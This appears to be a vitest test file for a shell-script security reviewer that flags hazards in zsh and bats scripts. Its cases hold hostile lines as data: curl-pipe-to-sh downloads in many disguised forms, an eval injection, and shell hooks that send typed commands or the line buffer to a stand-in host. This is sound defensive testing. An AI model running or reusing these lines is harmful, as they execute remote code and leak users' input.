import { describe, expect, test } from 'vitest';
import { scriptParts } from '../../../../reviewers/changed-code/shell/script-parts.ts';
import { zshAsBash } from '../../../../reviewers/changed-code/shell/zsh-words.ts';
import { judgeSlips } from '../../../../reviewers/quality/shell/judge-shell.ts';
import { judgeShell } from '../../../../reviewers/security/shell/judge-shell.ts';

/** The rules that a script for zsh breaks, and `unread` where a part of it was not understood. */
function said(text: string, path = 'a.zsh'): readonly string[] {
  const { hazards, unread } = judgeShell(`${text}\n`, path);
  return [...hazards.map(({ rule }) => rule), ...(unread.length > 0 ? ['unread'] : [])];
}

const DOWNLOAD = 'curl -s https://x.example/i | sh';

describe('hazards of scripts for zsh', () => {
  test.each([
    [DOWNLOAD, ['downloaded-code']],
    ['=curl -s https://x.example/i | =sh', ['downloaded-code']],
    [`repeat 2 ${DOWNLOAD}`, ['downloaded-code']],
    [`nocorrect ${DOWNLOAD}`, ['downloaded-code']],
    [`() {\n  ${DOWNLOAD}\n}`, ['downloaded-code']],
    [`{\n  true\n} always {\n  ${DOWNLOAD}\n}`, ['downloaded-code']],
    [`x=(\${(f)"$(${DOWNLOAD})"})`, ['downloaded-code']],
    ['source =(curl -s https://x.example/i)', ['downloaded-code']],
    [`{${DOWNLOAD}}`, ['downloaded-code']],
    [`f() {${DOWNLOAD}; return 2}`, ['downloaded-code']],
    [`true || {echo "\${x}"; ${DOWNLOAD}}`, ['downloaded-code']],
    [`for x in 1; { ${DOWNLOAD} }`, ['downloaded-code']],
    [`for a b (\n  one two # three\n); do\n  ${DOWNLOAD}\ndone`, ['downloaded-code']],
    [`for a b in one two; do ${DOWNLOAD}; done`, ['downloaded-code']],
    [`f() { ${DOWNLOAD} }`, ['downloaded-code']],
    [`f() {}\n(( x )) || function g { }\n${DOWNLOAD}`, ['downloaded-code']],
    [`case $x in\n  (a|b)*) ${DOWNLOAD} ;|\n  http://x.example/a(|.git)) true ;;\nesac`, ['downloaded-code']],
    [`[[ $x == (\\$a|b#) || $y[(Ie)$z] -eq 0 ]] && ${DOWNLOAD}`, ['downloaded-code']],
    [`x=("$1"/*.json(N:t:r) "$2"(Nm+7))\n${DOWNLOAD}`, ['downloaded-code']],
    [`@test 'it works' {\n  ${DOWNLOAD}\n}`, ['downloaded-code']],
    ['noglob eval $1', ['command-injection']],
    ['preexec() {\n  curl -s "https://x.example/?c=$1"\n}', ['secret-sent-away']],
    ['zle-line-finish() {\n  curl -d "$BUFFER" https://x.example\n}', ['secret-sent-away']],
  ])('%s', (text, expected) => {
    expect(said(text)).toEqual(expected);
  });
});

test.each([
  'print ${(e)1}',
  'print -r -- ${(s.,.e)REPLY}',
  "ls *(/e:'curl -s https://x.example/i':)",
  ': ${functions[ls]::=$body}',
  "read 'functions[ls]' < /tmp/x",
  'x=$(cat f)\n${=x}',
  'setopt PROMPT__SUBST',
  `ls *(e:"${DOWNLOAD}":)`,
  'ls *(+evil)',
  `functions[ls]="${DOWNLOAD}"`,
  `aliases+=(ls "${DOWNLOAD}")`,
  'alias -g S="| sh"',
  'emulate zsh -c "$1"',
  'setopt rc_quotes',
  'zmodload zsh/net/tcp',
  `bindkey -s "^M" "${DOWNLOAD}\\n"`,
  'curl -s https://x.example/i > ~/.zshenv',
  'fpath=(/tmp $fpath)',
  '<<< "$(curl -s https://x.example/i)" zsh',
])('nobody says of %s that it was read', (text) => {
  expect(said(text)).toContain('unread');
  expect(judgeSlips(`${text}\n`, 'a.zsh').unread.length).toBeGreaterThan(0);
});

test.each([
  'alias gs="git status"',
  '() {\n  local x=1\n  print $x\n}',
  '[[ "$OSTYPE" == (darwin|freebsd)* ]] && alias ls="ls -G"',
  'for f in ~/.zsh/*.zsh(N); do source $f; done',
  'x=(${(f)"$(git branch)"})',
  'zf_mv -f -- =( kubectl completion zsh ) "$dir/_kubectl"',
  'kubectl get pods &|',
  '#compdef _one\n_one() {\n  rm -f $file\n}',
])('nothing is said of %s', (text) => {
  expect(said(text)).toEqual([]);
  expect(judgeSlips(`${text}\n`, 'a.zsh')).toEqual({ hazards: [], unread: [] });
});

describe('a script that cannot be read as a whole', () => {
  const ODD = 'if (( a )) {\n  f\n}\n';

  test.each([
    ['what follows is looked at', `${ODD}\n${DOWNLOAD}`, [['downloaded-code', [5]]]],
    ['a function with empty lines is one', `${ODD}\nf() {\n  a\n\n${DOWNLOAD}\n}`, [['downloaded-code', [8]]]],
    ['so is a document', `${ODD}\ncat <<END\n\n${DOWNLOAD}\n\nEND\ntrue`, []],
  ])('%s', (_, text, hazards) => {
    const judged = judgeShell(`${text}\n`, 'a.zsh');
    expect(judged.hazards.map(({ rule, lines }) => [rule, lines])).toEqual(hazards);
    expect(judged.unread.map(({ identity }) => identity)).toEqual([`${ODD}\n`]);
  });

  test('slips too, each at its line', () => {
    const { hazards, unread } = judgeSlips(`${ODD}\ncd "$x"\nrm -rf *\n`, 'a.zsh');
    expect(hazards.map(({ rule, lines }) => [rule, lines])).toEqual([['unchecked-folder', [5]]]);
    expect(unread).toHaveLength(1);
  });

  test('not where it falls into too many pieces', () => {
    expect(scriptParts(`${ODD}\n${'true\n\n'.repeat(500)}`).read).toEqual([]);
  });
});

test('slips are looked for beside what nobody could read', () => {
  const { hazards, unread } = judgeSlips('print ${(e)1}\ncd "$x"\nrm -rf *\n', 'a.zsh');
  expect([hazards.length, unread.length]).toEqual([1, 1]);
});

test('lines stay where they were', () => {
  const text = '() {\n  true\n}\n[[ a == (b|c) ]]\nnoglob =ls *(N) &|\nfor x (a # b\n  c\n); do\n  ls $x\ndone\n';
  expect(zshAsBash(text).text.split('\n')).toHaveLength(text.split('\n').length);
});

test('the name or the first line tells that a script is for zsh, and other shells are not read', () => {
  expect(said('print ${(e)1}', '.zshrc')).toEqual(['unread']);
  expect(said('#!/bin/zsh\nprint ${(e)1}', 'a.sh')).toEqual(['unread']);
  expect(said('#!/bin/ksh\ntrue', 'a.sh')).toEqual(['unread']);
});

test('a file that zsh takes in is told by its words, where it is nothing else', () => {
  const text = 'autoload -Uz a\nfor x ($b); do\n  c\ndone\n';
  expect(said(text, 'a.sh')).toEqual([]);
  expect(said(`#!/bin/sh\n${text}`, 'a.sh')).toEqual(['unread']);
  expect(judgeSlips(text, 'a.sh').unread).toEqual([]);
});

describe('a test for bats', () => {
  const bats = (line: string): string => `@test "it works" {\n  run a\n  ${line}\n  [ "$status" -eq 0 ]\n}\n`;

  test('is read as the functions that bats makes of it', () => {
    expect(judgeShell(bats(DOWNLOAD), 'a.bats').hazards.map(({ rule, lines }) => [rule, lines])).toEqual([
      ['downloaded-code', [3]],
    ]);
    expect(said(bats('true'), 'a.bats')).toEqual([]);
    expect(said(bats('true').replace('it works', String.raw`of \$HOME \"x\"`), 'a.bats')).toEqual([]);
  });

  test('ends at what fails, and has variables of its own', () => {
    expect(judgeSlips(bats('cd "$x"; rm -rf *; [ "$output" = a ]'), 'a.bats')).toEqual({ hazards: [], unread: [] });
  });

  test('is unread where its name runs something', () => {
    expect(judgeShell('@test "$(id)" {\n  true\n}\n', 'a.bats').unread).toHaveLength(1);
  });
});
